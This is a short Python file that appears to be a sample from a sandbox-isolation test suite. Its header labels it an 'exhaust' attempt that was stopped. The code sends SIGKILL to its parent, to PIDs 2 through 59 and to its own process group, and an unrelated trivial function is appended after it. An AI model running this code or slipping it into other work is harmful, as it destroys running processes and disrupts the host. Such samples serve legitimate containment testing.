# tries: kill the parent, the siblings, the own group and everybody else
# family: exhaust | control: without namespaces | success: stopped
import os
import signal

own, parent = os.getpid(), os.getppid()
for target in (parent, *range(2, 60), 0):
    if target not in (own, 1):
        try:
            os.kill(target, signal.SIGKILL) if target or os.getpgid(0) != own else None
        except OSError:
            pass


def standardise(x):
    return x + 1
